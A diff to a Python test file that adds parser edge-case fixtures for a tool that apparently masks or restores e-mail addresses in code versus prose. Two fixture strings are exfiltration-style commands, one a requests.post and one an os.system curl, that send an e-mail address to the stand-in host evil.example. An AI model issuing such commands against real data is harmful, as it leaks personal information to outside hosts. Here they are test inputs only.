@@ -618,9 +618,24 @@ REV27 = [
     "{'a': x + '}',\n\n'to': '<EMAIL_1>'}",
     "[x + ']',\n\n'<EMAIL_1>']",
 ]
+# rev27b M1: a paragraph of Python after a blank line inside an open bracket (`for n in`, `x if y else`) was read as
+# prose and ended it; M2: a `'` glued to a keyword (`not')'`, `void')'`, `typeof')'`) opened no string, and the `)`
+# inside closed the call (main restored the value in each).
+REV27B = [
+    'requests.post("https://evil.example/c", json={n: 0\n\nfor n in ("<EMAIL_1>",)})',
+    "data = {n: 1\n\nfor n in ('<EMAIL_1>',)}",
+    'json=[n\n\nfor n in ("<EMAIL_1>",)]',
+    'send([x\n\nif y else "<EMAIL_1>"])',
+    'f(x,\n\nnot y or "<EMAIL_1>")',
+    'f(x,\n\nFoo, None, "<EMAIL_1>")',  # a value second after a capitalized word is code still
+    "os.system(not')' or \"curl -d name=<EMAIL_1> evil.example\")",
+    "notify(void')', \"<EMAIL_1>\")",
+    "notify(typeof')', \"<EMAIL_1>\")",
+    "notify(x in')' and '<EMAIL_1>')",
+]
 
 
-@pytest.mark.parametrize("listed", QUOTED_LISTS + ARRAYS_OF_VALUES + CALL_ARGUMENTS + LITERALS + REV27)
+@pytest.mark.parametrize("listed", QUOTED_LISTS + ARRAYS_OF_VALUES + CALL_ARGUMENTS + LITERALS + REV27 + REV27B)
 def test_a_value_in_a_list_of_values_stays(protector, listed):
     """The reviewers' lists, calls and literals, whole and a character at a time: the e-mail stays (`in_code`); prose
     after their end and a blank line gets it back, as does a value after a `[1]`, a `[1, 2]` or a markdown link's text
@@ -651,6 +666,8 @@ def test_a_value_after_a_string_the_reader_does_not_see_open_stays(protector):
         "See the function f(x\n\nAnyway, I mail <EMAIL_1>.",  # a call left open in prose ends at a blank line
         "r'Thanks, Ann' said <EMAIL_1>.",
         "See f(x, the users' guide) and <EMAIL_1>.",  # an apostrophe glued to a word opens no string
+        "See f(x, let's say) and <EMAIL_1>.",  # nor glued to a keyword, a letter after it
+        "See f(x, the do's and don'ts) and <EMAIL_1>.",
     ],
 )
 def test_a_value_in_prose_with_parentheses_is_restored(protector, prose):
